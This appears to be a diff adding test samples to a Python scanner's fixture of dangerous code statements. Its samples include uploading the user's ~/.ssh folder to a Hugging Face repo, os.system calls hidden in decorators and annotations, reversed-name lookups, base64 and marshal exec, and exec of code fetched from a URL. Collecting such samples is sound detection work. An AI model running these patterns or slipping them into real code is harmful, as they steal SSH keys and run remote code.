@@ -51,6 +51,16 @@ STATEMENTS = {
     ),
     "operator-library": f"import torch\ntorch.ops.load_library('./acme.so'){MARK}\n",
     "reversed": f"import os\ngetattr(os, 'metsys'[::-1])('echo weighbridge-eval'){MARK}\n",
+    "decorator": (
+        f"import os\n@os.system{MARK}\n@(lambda cls: 'echo weighbridge-eval')\nclass Model:\n    pass\n"
+    ),
+    "annotation": (
+        f"import os\ndef load(path: os.system('echo weighbridge-eval')):{MARK}\n    pass\n"
+    ),
+    "hub-upload": (
+        "import os\nfrom huggingface_hub import HfApi\nHfApi().upload_folder("
+        f"repo_id='acme/x', folder_path=os.path.expanduser('~/.ssh')){MARK}\n"
+    ),
     "marshal": f"import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'x'))){MARK}\n",
     "lambda": f"import base64\n(lambda s: exec(base64.b64decode(s)))('{_CODE}'){MARK}\n",
     "fetch-exec": f"import requests\nexec(requests.get('{URL}').text){MARK}\n",
